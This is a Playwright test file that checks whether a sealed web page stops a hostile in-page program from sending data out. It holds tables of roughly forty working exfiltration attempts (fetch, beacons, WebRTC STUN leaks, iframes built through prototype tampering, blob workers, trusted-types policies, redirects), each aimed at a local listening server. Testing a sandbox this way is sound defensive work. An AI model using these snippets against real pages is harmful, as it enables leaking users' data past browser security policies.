/** A hostile program in the page: whatever it tries, nothing gets out, and a server that listens hears nothing. */
import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Request } from '@playwright/test';
import { expect, frames, open, test } from './helpers.ts';

/** What a hostile program within the page would try; each in its own right, from the page's own world. */
const HOSTILE: Record<string, (to: string) => unknown> = {
  fetch: (to) => fetch(`${to}fetch`, { method: 'POST', mode: 'no-cors', body: 'image' }),
  image: (to) => Object.assign(new Image(), { src: `${to}image` }),
  'own window of a frame': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return (frame.contentWindow as typeof globalThis & Window).fetch(`${to}frame`);
  },
  'frame made by another document': (to) => {
    const frame = document.implementation.createHTMLDocument('').createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
    document.body.append(frame);
    const stun = new URL(to).host;
    const peer = new ((frame as HTMLIFrameElement).contentWindow as typeof globalThis & Window).RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  markup: (to) => document.body.insertAdjacentHTML('beforeend', `<img src="${to}markup"><iframe src="${to}markup-frame"></iframe>`),
  parser: (to) => document.body.append(...new DOMParser().parseFromString(`<iframe src="${to}parser"></iframe>`, 'text/html').body.children),
  fragment: (to) => document.body.append(document.createRange().createContextualFragment(`<iframe src="${to}fragment"></iframe>`)),
  'web rtc': async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'web socket': (to) => new WebSocket(to.replace('http', 'ws')),
  beacon: (to) => navigator.sendBeacon(`${to}beacon`, 'image'),
  window: (to) => window.open(`${to}window`),
  form: (to) => {
    const form = Object.assign(document.createElement('form'), { action: `${to}form`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  import: (to) => import(`${to}import.js`),
  script: (to) => document.head.append(Object.assign(document.createElement('script'), { src: `${to}script.js` })),
  prefetch: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${to}prefetch` })),
  sheet: (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}sheet` })),
  'worker of a blob': (to) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${to}worker', { mode: 'no-cors' }); importScripts('${to}worker.js');`]))),
  'worker of a trusted blob': (to) => {
    const url = URL.createObjectURL(new Blob([`fetch('${to}worker', { mode: 'no-cors' }); importScripts('${to}worker.js');`]));
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } } };
    return new Worker(trustedTypes.createPolicy('nodulens', { createScriptURL: (text: string) => text }).createScriptURL(url));
  },
  'service worker': (to) => navigator.serviceWorker.register(`${to}service-worker.js`),
  'document.open': (to) => (document.open as unknown as (url: string, name: string, features: string) => void)(`${to}document-open`, '_blank', ''),
  'picture in picture': async (to) => {
    const { documentPictureInPicture } = window as unknown as { documentPictureInPicture: { requestWindow(): Promise<typeof globalThis> } };
    const peer = new (await documentPictureInPicture.requestWindow()).RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'frame of an XML document': async (to) => {
    const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe', null).documentElement;
    document.body.append(made);
    const peer = new ((made as HTMLIFrameElement).contentWindow as typeof globalThis & Window).RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'frame of a class': (to) => {
    const Frame = class extends HTMLIFrameElement {};
    customElements.define('x-frame', Frame, { extends: 'iframe' });
    const made = new Frame();
    document.body.append(made);
    return (made.contentWindow as typeof globalThis & Window).fetch(`${to}class`);
  },
  'frame under two names': (to) => {
    let asked = 0;
    const name = { toString: () => ((asked += 1) > 1 ? 'iframe' : 'p') } as unknown as 'iframe';
    const made = document.createElement(name);
    document.body.append(made);
    const peer = new (made.contentWindow as typeof globalThis & Window).RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'frame behind changed prototypes': (to) => {
    Set.prototype.has = () => false;
    String.prototype.toLowerCase = () => 'p';
    const made = document.createElement('iframe');
    document.body.append(made);
    return (made.contentWindow as typeof globalThis & Window).fetch(`${to}prototypes`);
  },
  'web authentication': (to) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: new URL(to).hostname } }),
  cookie: () => {
    document.cookie = 'image=1';
  },
  background: (to) => Object.assign(document.body.style, { backgroundImage: `url(${to}background)` }),
  'markup that is not safe': (to) => document.body.setHTMLUnsafe(`<img src="${to}unsafe"><iframe src="${to}unsafe-frame"></iframe>`),
  notification: (to) => new Notification('x', { icon: `${to}icon`, body: 'image' }),
  'cover picture': (to) => {
    navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `${to}artwork` }] });
  },
  worklet: (to) => new AudioContext().audioWorklet.addModule(`${to}worklet.js`),
  font: (to) => new FontFace('x', `url(${to}font)`).load(),
};
/** What only sealing refuses. */
const AFTER_SEALING: Record<string, (to: string) => unknown> = {
  'going there': (to) => location.assign(`${to}navigate`),
  'a link to a new window': (to) => Object.assign(document.createElement('a'), { href: `${to}link`, target: '_blank' }).click(),
  'a click that is made up': (to) => Object.assign(document.createElement('a'), { href: `${to}made-up`, target: '_blank' }).dispatchEvent(new MouseEvent('click', { bubbles: true })),
  'a blob that goes on': (to) => {
    const page = URL.createObjectURL(new Blob([`<meta http-equiv="refresh" content="0;url=${to}blob">`], { type: 'text/html' }));
    Object.assign(document.createElement('a'), { href: page, target: '_blank' }).click();
    location.href = page;
  },
  'a link around a slot': (to) => {
    const host = document.createElement('div');
    document.body.append(host);
    const link = Object.assign(document.createElement('a'), { href: `${to}slot`, target: '_blank' });
    link.append(document.createElement('slot'));
    host.attachShadow({ mode: 'closed' }).append(link);
    const inner = document.createElement('span');
    host.append(inner);
    inner.click();
  },
  'going there behind changed prototypes': (to) => {
    Event.prototype.preventDefault = () => undefined;
    Element.prototype.closest = () => null;
    location.assign(`${to}prototypes`);
  },
  'a download': (to) => Object.assign(document.createElement('a'), { href: `${to}download`, download: 'x' }).click(),
  'a refresh': (to) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}refresh` })),
  'its own server': () => fetch('./icon.svg?image'),
  'its own server, by an image': () => Object.assign(new Image(), { src: './icon.svg?image' }),
  'its own server, by loading anew': () => {
    history.replaceState(null, '', '?image');
    location.reload();
  },
};

for (const sealed of [false, true]) {
  test(`a hostile program in the page gets nothing out${sealed ? ' of a sealed page, not even to its own server' : ''}`, async ({ page, site, watch }) => {
    watch.expectErrors(/./);
    watch.expectRefused();
    const heard: string[] = [];
    const server = http.createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('content-type', 'text/html');
      // No icon of its own is asked for.
      response.end('<link rel="icon" href="data:,">');
    });
    server.on('upgrade', (request, socket) => {
      heard.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    server.on('connection', () => heard.push('connection'));
    // The free page keeps the one that it has.
    server.keepAliveTimeout = 0;
    const port = await new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
    const stun = dgram.createSocket('udp4');
    stun.on('message', () => heard.push('STUN'));
    await new Promise<void>((resolve) => stun.bind(port, '127.0.0.1', resolve));
    try {
      await open(page, site.url);
      // The evil server can be reached from this browser: otherwise nothing here could fail.
      const free = await page.context().newPage();
      await free.goto(`http://127.0.0.1:${port}/reachable`);
      expect(heard).toContain('GET /reachable');
      heard.length = 0;
      let sent = 0;
      // What the free page of the same browser sends now has arrived when anything sent before it would have, too.
      const arrived = async (): Promise<string[]> => {
        const path = `/free-${(sent += 1)}`;
        await free.evaluate((to) => fetch(to).then(() => undefined), path);
        await expect.poll(() => heard).toContain(`GET ${path}`);
        return heard.splice(0).filter((line) => line !== `GET ${path}`);
      };
      if (sealed) {
        await page.locator('#seal').click();
        await expect(page.locator('#seal')).toHaveText('This page is sealed', { timeout: 60_000 });
        await expect(page.locator('#engine-facts')).toContainText('Nodulens engine');
      }
      const requests: Request[] = [];
      page.context().on('request', (request) => requests.push(request));
      // Those that the policy refuses are reported as well; they failed, and say so.
      const asked = (): string[] => requests.filter((request) => !/csp/i.test(request.failure()?.errorText ?? '')).map((request) => request.url()).filter((url) => !url.includes('/free-'));
      const started = page.workers().length;
      for (const [name, attempt] of Object.entries({ ...HOSTILE, ...(sealed ? AFTER_SEALING : {}) })) {
        await page.evaluate(`Promise.resolve().then(() => (${attempt.toString()})('http://127.0.0.1:${port}/')).then(() => undefined, () => undefined)`).catch(() => undefined);
        expect(await arrived(), name).toEqual([]);
        // Reloading lifts the seal, and takes nothing along: files of the page, and nothing in their addresses.
        if (sealed) expect(asked().filter((url) => !url.startsWith('blob:') && !(name.endsWith('anew') && url.startsWith(site.url) && new URL(url).search === '')), name).toEqual([]);
      }
      // For whatever a program may have put off; one of them has loaded the page again.
      await expect(page.locator('#lead')).not.toBeEmpty();
      await frames(page, 60);
      expect(await page.context().cookies()).toEqual([]);
      expect(await arrived()).toEqual([]);
      await free.close();
      expect(page.context().pages()).toHaveLength(1);
      expect(page.url().split('?')[0]).toBe(site.url);
      if (!sealed) expect(page.workers()).toHaveLength(started);
    } finally {
      server.closeAllConnections();
      server.close();
      stun.close();
    }
  });
}
